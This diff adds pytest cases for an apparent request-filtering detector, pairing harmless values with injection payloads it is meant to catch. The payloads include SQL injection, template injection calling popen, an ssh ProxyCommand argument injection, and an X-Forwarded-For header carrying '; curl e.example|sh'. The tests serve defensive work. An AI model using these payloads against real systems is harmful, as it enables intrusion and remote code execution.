@@ -330,3 +330,40 @@ def test_a_whole_body_that_is_a_program(kind: str, *, is_found: bool) -> None:
     script = "#!/bin/sh\nset -e\ncd /srv/app && git pull\n/bin/cat x\n"
     headers = {"Content-Type": kind} if kind else {}
     assert is_found is stops(method="PUT", headers=headers, body=script)
+
+
+@pytest.mark.parametrize(
+    ("body", "is_found"),
+    [
+        ({"stack": [{"file": "a.py", "line": 3, "code": 'run(f"SELECT * FROM t")'}]}, False),
+        ({"lines": [{"line": 3, "code": "x' union select pw from users --"}]}, True),
+        ({"file": "a.py", "line": 3, "code": "x' union select pw from users --"}, True),
+        ({"f": '=QUERY(A1:D; "select A, sum(B) where C > 5 group by A"; 1)'}, False),
+        ({"f": '=QUERY(A1:D; "select A"; 1); drop table users'}, True),
+        ({"t": "{{ states('sensor.x') | float > 3 and is_state('a.b','on') }}"}, False),
+        ({"t": "{{ states('sensor.x').__class__ }}"}, True),
+        ({"t": "{{ popen('id') }}"}, True),
+        ({"if": "q1 == 'yes' && q2 > 3"}, False),
+        ({"if": "x' || 'a' == 'a"}, True),
+        ({"pipeline": [{"$lookup": {"from": "admins", "as": "c"}}]}, True),
+        ({"pipeline": [{"lookup": {"from": "admins", "as": "c"}}]}, False),
+        ({"n": "1 or 1 rlike 1"}, True),
+        ({"n": "1 or 2 like it"}, False),
+        ({"n": "a=i;b=d;$a$b"}, True),
+        ({"n": "a=1;b=2 costs $a"}, False),
+        ({"u": "ssh://-oProxyCommand=id/x"}, True),
+        ({"u": "ssh://git.partner.example/x"}, False),
+    ],
+)
+def test_more_members_and_spellings(body: Json, *, is_found: bool) -> None:
+    """Each stands beside what is written like it."""
+    assert is_found is stops_json(body)
+
+
+@pytest.mark.parametrize(
+    ("addresses", "is_found"),
+    [("203.0.113.7, [2001:db8::1]:443", False), ("127.0.0.1; curl e.example|sh", True)],
+)
+def test_a_header_of_addresses_holds_nothing_else(addresses: str, *, is_found: bool) -> None:
+    """No proxy writes a command behind an address."""
+    assert is_found is stops(headers={"X-Forwarded-For": addresses})
